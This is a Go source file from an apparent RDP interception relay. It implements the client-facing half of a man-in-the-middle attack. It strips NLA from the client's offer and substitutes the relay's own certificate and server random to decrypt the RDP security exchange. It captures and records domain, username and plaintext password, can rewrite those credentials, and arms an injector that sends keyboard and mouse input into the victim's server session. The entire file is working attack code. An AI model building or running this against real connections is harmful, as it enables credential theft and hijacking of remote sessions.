package relay

import (
	"bytes"
	"fmt"

	"github.com/rcarmo/rdp-relay/internal/obs"
	"github.com/rcarmo/rdp-relay/internal/protocol/fastpath"
	"github.com/rcarmo/rdp-relay/internal/protocol/framing"
	"github.com/rcarmo/rdp-relay/internal/protocol/gcc"
	"github.com/rcarmo/rdp-relay/internal/protocol/mcs"
	"github.com/rcarmo/rdp-relay/internal/protocol/pdu"
	"github.com/rcarmo/rdp-relay/internal/protocol/rdpsec"
	"github.com/rcarmo/rdp-relay/internal/protocol/x224"
	"github.com/rcarmo/rdp-relay/internal/recording"
	"github.com/rcarmo/rdp-relay/internal/sessions"
)

// serverSide impersonates the server toward the client: it consumes the
// client's connection sequence, substitutes the relay's own security
// material, and once active pumps client traffic toward the server.
func (s *Session) serverSide() error {
	state := StateTransportHandshake

	request, err := s.readConnectionRequest()
	if err != nil {
		return err
	}

	s.hello <- helloMsg{request: request}

	confirm, err := wait(s.ctx, s.confirm)
	if err != nil {
		return err
	}

	if confirm.failure != nil {
		// The server refused; relay its failure verbatim and give up.
		tpdu := x224.TPDU{Code: x224.TPDUConnectionConfirm, Data: confirm.failure.Serialize()}
		_ = s.client.WriteFrame(framing.Frame{Kind: framing.KindTPKT, Payload: tpdu.Serialize()})

		return fmt.Errorf("%w: server rejected with %s", ErrNegotiationFailed, confirm.failure.FailureCode())
	}

	clientProtocol, err := s.confirmToClient(request)
	if err != nil {
		return err
	}

	s.recordNegotiation(request, clientProtocol, confirm)

	if err := state.advance(StateChannelConnection); err != nil {
		return err
	}

	clientUserData, err := s.readConnectInitial()
	if err != nil {
		return err
	}

	s.clientGCC <- clientGCCMsg{userData: clientUserData}

	serverGCC, err := wait(s.ctx, s.serverGCC)
	if err != nil {
		return err
	}

	relayRandom, err := s.respondConnectResponse(serverGCC.userData)
	if err != nil {
		return err
	}

	method := uint32(0)
	if serverGCC.userData.ServerSecurityData != nil {
		method = serverGCC.userData.ServerSecurityData.EncryptionMethod
	}

	if method == 0 {
		// Neither leg will carry RDP encryption; unblock the other side
		// before the client's first data PDU.
		s.ciphers <- cipherMsg{}
	}

	if err := state.advance(StateSecurityExchange); err != nil {
		return err
	}

	return s.clientPhaseLoop(confirm, serverGCC.userData, clientUserData, relayRandom, method)
}

// readConnectionRequest consumes the X.224 CR and records the attempt.
func (s *Session) readConnectionRequest() (*pdu.ClientConnectionRequest, error) {
	tpdu, err := s.readTPDU(s.client)
	if err != nil {
		return nil, err
	}

	if !tpdu.IsConnectionRequest() {
		return nil, fmt.Errorf("%w: expected connection request, got code 0x%02X", ErrUnexpectedPDU, tpdu.Code)
	}

	request := &pdu.ClientConnectionRequest{}
	if err := request.Deserialize(tpdu.Data); err != nil {
		return nil, err
	}

	requested := pdu.NegotiationProtocolRDP
	if request.NegotiationRequest != nil {
		requested = request.NegotiationRequest.RequestedProtocols
	}

	s.log.Info("connection from %s requesting %s", s.client.RemoteAddr(), requested)
	s.rec.json(recording.KindConnectionAttempt, connectionAttemptRecord{
		ClientAddr:         s.client.RemoteAddr().String(),
		Cookie:             request.Cookie,
		RoutingToken:       request.RoutingToken,
		RequestedProtocols: requested.String(),
	})

	return request, nil
}

// confirmToClient answers the CR with the protocol the relay is willing to
// speak on the client leg: TLS when the client offered it, standard RDP
// security otherwise. NLA never reaches the client.
func (s *Session) confirmToClient(request *pdu.ClientConnectionRequest) (pdu.NegotiationProtocol, error) {
	selected := pdu.NegotiationProtocolRDP

	var data []byte

	if request.NegotiationRequest != nil {
		if request.NegotiationRequest.RequestedProtocols.IsSSL() {
			selected = pdu.NegotiationProtocolSSL
		}

		data = pdu.NewNegotiationResponse(0, selected).Serialize()
	}

	tpdu := x224.TPDU{Code: x224.TPDUConnectionConfirm, Data: data}
	if err := s.client.WriteFrame(framing.Frame{Kind: framing.KindTPKT, Payload: tpdu.Serialize()}); err != nil {
		return 0, err
	}

	if selected.IsSSL() {
		if s.tls == nil {
			return 0, fmt.Errorf("%w: no TLS identity configured", ErrNegotiationFailed)
		}

		if err := s.client.StartTLSServer(s.tls); err != nil {
			return 0, fmt.Errorf("client tls: %w", err)
		}
	}

	return selected, nil
}

func (s *Session) recordNegotiation(request *pdu.ClientConnectionRequest, clientProtocol pdu.NegotiationProtocol, confirm confirmMsg) {
	downgraded := false
	if request.NegotiationRequest != nil {
		requested := request.NegotiationRequest.RequestedProtocols
		downgraded = requested&^(pdu.NegotiationProtocolSSL) != 0
	}

	if downgraded {
		s.log.Info("stripped NLA from client offer; server leg speaks %s", confirm.selected)
	}

	s.rec.json(recording.KindNegotiation, negotiationRecord{
		ClientProtocol: clientProtocol.String(),
		ServerProtocol: confirm.selected.String(),
		NLADowngraded:  downgraded,
		ServerCerts:    confirm.certs,
	})
}

// readConnectInitial consumes the MCS Connect Initial and unpacks the
// client's GCC user data.
func (s *Session) readConnectInitial() (*pdu.ClientUserDataSet, error) {
	tpdu, err := s.readTPDU(s.client)
	if err != nil {
		return nil, err
	}

	if !tpdu.IsData() {
		return nil, fmt.Errorf("%w: expected connect initial", ErrUnexpectedPDU)
	}

	initial := &mcs.ConnectInitial{}
	if err := initial.Deserialize(bytes.NewReader(tpdu.Data)); err != nil {
		return nil, err
	}

	conference := &gcc.ConferenceCreateRequest{}
	if err := conference.Deserialize(bytes.NewReader(initial.UserData)); err != nil {
		return nil, err
	}

	userData := &pdu.ClientUserDataSet{}
	if err := userData.Deserialize(bytes.NewReader(conference.UserData)); err != nil {
		return nil, err
	}

	return userData, nil
}

// respondConnectResponse sends the substituted MCS Connect Response toward
// the client. When the server negotiated standard RDP security the relay
// swaps in its own random and certificate so it can decrypt the client's
// key exchange; multitransport is stripped so no traffic escapes over UDP.
// Returns the relay's server random, nil when encryption is off.
func (s *Session) respondConnectResponse(serverData *pdu.ServerUserData) ([]byte, error) {
	substituted := *serverData
	substituted.ServerMultitransportChannelData = nil

	var relayRandom []byte

	if sec := serverData.ServerSecurityData; sec != nil && sec.EncryptionMethod != 0 {
		if sec.ServerCertificate == nil || sec.ServerCertificate.ProprietaryCert == nil {
			return nil, fmt.Errorf("%w: server presented an X.509 certificate chain under standard security", ErrNegotiationFailed)
		}

		random, err := rdpsec.NewRandom()
		if err != nil {
			return nil, err
		}

		relayRandom = random
		substituted.ServerSecurityData = &pdu.ServerSecurityData{
			EncryptionMethod:  sec.EncryptionMethod,
			EncryptionLevel:   sec.EncryptionLevel,
			ServerRandom:      relayRandom,
			ServerCertificate: s.sign.Certificate(),
		}
	}

	conference := gcc.NewConferenceCreateResponse(substituted.Serialize())
	response := mcs.NewConnectResponse(conference.Serialize())

	return relayRandom, s.client.WriteFrame(framing.Frame{Kind: framing.KindTPKT, Payload: x224.WrapData(response.Serialize())})
}

// clientPhaseLoop drives the channel connection, security exchange and
// capability exchange on the client leg, then hands over to the pump.
func (s *Session) clientPhaseLoop(
	confirm confirmMsg,
	serverData *pdu.ServerUserData,
	clientData *pdu.ClientUserDataSet,
	relayRandom []byte,
	method uint32,
) error {
	clientLeg := leg{conn: s.client}
	serverLeg := leg{conn: confirm.server}

	exchanged := method == 0
	infoSeen := false

	var ioChannel uint16
	if serverData.ServerNetworkData != nil {
		ioChannel = serverData.ServerNetworkData.MCSChannelId
	}

	for {
		frame, err := s.client.ReadFrame()
		if err != nil {
			return err
		}

		if frame.Kind == framing.KindFastPath {
			return fmt.Errorf("%w: fast-path input before activation", ErrUnexpectedPDU)
		}

		tpdu, err := x224.Parse(frame.Payload)
		if err != nil {
			return err
		}

		if tpdu.IsDisconnectRequest() {
			_ = confirm.server.WriteFrame(frame)

			return ErrConnectionClosed
		}

		if !tpdu.IsData() {
			return fmt.Errorf("%w: control tpdu during channel connection", ErrUnexpectedPDU)
		}

		dom, err := mcs.ParseDomainPDU(tpdu.Data)
		if err != nil {
			return err
		}

		switch dom.Application {
		case mcs.ErectDomainRequest, mcs.AttachUserRequest, mcs.ChannelJoinRequest:
			if err := confirm.server.WriteFrame(frame); err != nil {
				return err
			}
		case mcs.DisconnectProviderUltimatum:
			_ = confirm.server.WriteFrame(frame)

			return ErrConnectionClosed
		case mcs.SendDataRequest:
			sd := dom.SendData

			switch {
			case !exchanged:
				if err := s.handleSecurityExchange(&clientLeg, &serverLeg, sd, serverData, relayRandom, method); err != nil {
					return err
				}

				exchanged = true
			case !infoSeen:
				if err := s.handleClientInfo(&clientLeg, &serverLeg, sd); err != nil {
					return err
				}

				infoSeen = true
			default:
				act, err := s.handleActivation(&clientLeg, &serverLeg, sd, clientData, serverData, ioChannel)
				if err != nil {
					return err
				}

				if act != nil {
					p := &pumpState{
						src:       clientLeg,
						dst:       serverLeg,
						direction: ClientToServer,
						mux:       act.mux,
					}

					s.setState(sessions.StateActive)
					s.armInjector(&serverLeg, *act)

					return s.pump(p)
				}
			}
		default:
			return fmt.Errorf("%w: mcs %s during channel connection", ErrUnexpectedPDU, dom.Application)
		}
	}
}

// handleSecurityExchange recovers the client random encrypted against the
// relay's certificate, derives both legs' session keys, and re-encrypts the
// random against the server's real certificate.
func (s *Session) handleSecurityExchange(
	clientLeg, serverLeg *leg,
	sd *mcs.SendDataPDU,
	serverData *pdu.ServerUserData,
	relayRandom []byte,
	method uint32,
) error {
	flags, body, err := rdpsec.SplitFlags(sd.Data)
	if err != nil {
		return err
	}

	if flags&rdpsec.SecExchangePkt == 0 {
		return fmt.Errorf("%w: expected security exchange, flags %#04x", ErrUnexpectedPDU, flags)
	}

	exchange := &rdpsec.SecurityExchange{}
	if err := exchange.Deserialize(body); err != nil {
		return err
	}

	clientRandom, err := rdpsec.DecryptRandom(exchange.EncryptedRandom, s.sign.Private())
	if err != nil {
		return err
	}

	// Client leg: the relay is the server, so its encrypt key is the
	// server-to-client half derived from the relay's own random.
	clientKeys, err := rdpsec.DeriveKeys(clientRandom, relayRandom, method, rdpsec.RoleServer)
	if err != nil {
		return err
	}

	clientCipher, err := rdpsec.NewCipher(clientKeys, method)
	if err != nil {
		return err
	}

	// Server leg: the relay is the client, keyed with the server's real
	// random from the untouched SC_SEC1 block.
	realRandom := serverData.ServerSecurityData.ServerRandom

	serverKeys, err := rdpsec.DeriveKeys(clientRandom, realRandom, method, rdpsec.RoleClient)
	if err != nil {
		return err
	}

	serverCipher, err := rdpsec.NewCipher(serverKeys, method)
	if err != nil {
		return err
	}

	clientLeg.cipher = clientCipher
	serverLeg.cipher = serverCipher

	// The other side must never open an encrypted server PDU before it
	// has these.
	s.ciphers <- cipherMsg{client: clientCipher, server: serverCipher}

	cert := serverData.ServerSecurityData.ServerCertificate.ProprietaryCert
	reEncrypted := rdpsec.EncryptRandom(clientRandom, cert.PublicKeyBlob.Modulus, cert.PublicKeyBlob.PubExp)

	payload := rdpsec.WrapFlags(rdpsec.SecExchangePkt, (&rdpsec.SecurityExchange{EncryptedRandom: reEncrypted}).Serialize())

	return serverLeg.writeChannel(true, sd.Initiator, sd.ChannelId, payload)
}

// handleClientInfo captures the client's credentials, applies any configured
// replacement, and forwards the possibly rewritten info packet.
func (s *Session) handleClientInfo(clientLeg, serverLeg *leg, sd *mcs.SendDataPDU) error {
	flags, body, err := rdpsec.SplitFlags(sd.Data)
	if err != nil {
		return err
	}

	if flags&rdpsec.SecInfoPkt == 0 {
		return fmt.Errorf("%w: expected client info, flags %#04x", ErrUnexpectedPDU, flags)
	}

	if flags&rdpsec.SecEncrypt != 0 {
		if clientLeg.cipher == nil {
			return fmt.Errorf("%w: encrypted client info without key exchange", ErrUnexpectedPDU)
		}

		if len(body) < macSignatureLen {
			return rdpsec.ErrShortHeader
		}

		if body, err = clientLeg.cipher.Decrypt(body[macSignatureLen:], body[:macSignatureLen]); err != nil {
			return err
		}
	}

	info := &pdu.ClientInfo{}
	if err := info.Deserialize(bytes.NewReader(body)); err != nil {
		return err
	}

	observed := sessions.Credentials{
		Domain:   info.Domain,
		Username: info.UserName,
		Password: info.Password,
	}

	replaced := s.replaceCredentials(info)
	if replaced {
		observed.Forwarded = info.UserName
	}

	obs.CredentialsCaptured.Inc()
	s.log.Info("captured credentials for %q (domain %q)", observed.Username, observed.Domain)
	s.rec.json(recording.KindCredentials, credentialsRecord{
		Domain:   observed.Domain,
		Username: observed.Username,
		Password: observed.Password,
		Replaced: replaced,
	})
	s.updateInfo(func(entry *sessions.Session) {
		creds := observed
		entry.Credentials = &creds
	})

	return serverLeg.writeChannel(true, sd.Initiator, sd.ChannelId, serverLeg.seal(rdpsec.SecInfoPkt, info.Serialize()))
}

// replaceCredentials applies the configured substitutions in place and
// reports whether anything changed.
func (s *Session) replaceCredentials(info *pdu.ClientInfo) bool {
	intercept := s.cfg.Intercept
	replaced := false

	if intercept.ReplaceUsername != "" && intercept.ReplaceUsername != info.UserName {
		info.UserName = intercept.ReplaceUsername
		replaced = true
	}

	if intercept.ReplacePassword != "" && intercept.ReplacePassword != info.Password {
		info.Password = intercept.ReplacePassword
		replaced = true
	}

	if intercept.ReplaceDomain != "" && intercept.ReplaceDomain != info.Domain {
		info.Domain = intercept.ReplaceDomain
		replaced = true
	}

	return replaced
}

// handleActivation waits for the client's Confirm Active, builds the channel
// multiplexer from both GCC halves, and publishes the activation to the
// server-facing side before the PDU crosses. Non-activation PDUs arriving
// first (persistent key lists from reconnecting clients, say) are forwarded
// as ordinary data.
func (s *Session) handleActivation(
	clientLeg, serverLeg *leg,
	sd *mcs.SendDataPDU,
	clientData *pdu.ClientUserDataSet,
	serverData *pdu.ServerUserData,
	ioChannel uint16,
) (*activationMsg, error) {
	plain, err := clientLeg.open(sd.Data)
	if err != nil {
		return nil, err
	}

	wire := bytes.NewReader(plain)

	var header pdu.ShareControlHeader
	if err := header.Deserialize(wire); err != nil {
		return nil, err
	}

	if !header.PDUType.IsConfirmActive() {
		// Not activation yet; relay and keep waiting.
		return nil, serverLeg.writeChannel(true, sd.Initiator, sd.ChannelId, serverLeg.seal(0, plain))
	}

	confirmActive := &pdu.ConfirmActive{}
	if err := confirmActive.Deserialize(wire); err != nil {
		return nil, err
	}

	var names []string
	if clientData.ClientNetworkData != nil {
		names = clientData.ClientNetworkData.ChannelNames()
	}

	var ids []uint16
	if serverData.ServerNetworkData != nil {
		ids = serverData.ServerNetworkData.ChannelIdArray
	}

	act := activationMsg{
		mux:           NewMux(names, ids, ioChannel),
		ioChannel:     ioChannel,
		shareID:       confirmActive.ShareID,
		userID:        sd.Initiator,
		fastPathInput: confirmActive.SupportsFastPathInput(),
	}

	s.activation <- act

	s.log.Info("session active: %d static channels, fast-path input %v", len(ids), act.fastPathInput)

	if err := serverLeg.writeChannel(true, sd.Initiator, sd.ChannelId, serverLeg.seal(0, plain)); err != nil {
		return nil, err
	}

	return &act, nil
}

// armInjector schedules the configured payload against the server leg.
func (s *Session) armInjector(serverLeg *leg, act activationMsg) {
	target := *serverLeg

	s.injector.Arm(act.fastPathInput, func(events []fastpath.InputEvent) error {
		if act.fastPathInput {
			input := &fastpath.Input{Events: events}
			header, body := input.Serialize()

			return target.conn.WriteWire(target.sealFastPath(header, body))
		}

		data := pdu.NewInput(act.shareID, act.userID, slowPathEvents(events)).Serialize()

		return target.writeChannel(true, act.userID, act.ioChannel, target.seal(0, data))
	})
}

// readTPDU reads one TPKT frame and parses its X.224 TPDU.
func (s *Session) readTPDU(conn *Connection) (x224.TPDU, error) {
	frame, err := conn.ReadFrame()
	if err != nil {
		return x224.TPDU{}, err
	}

	if frame.Kind != framing.KindTPKT {
		return x224.TPDU{}, fmt.Errorf("%w: fast-path frame during connection sequence", ErrUnexpectedPDU)
	}

	return x224.Parse(frame.Payload)
}
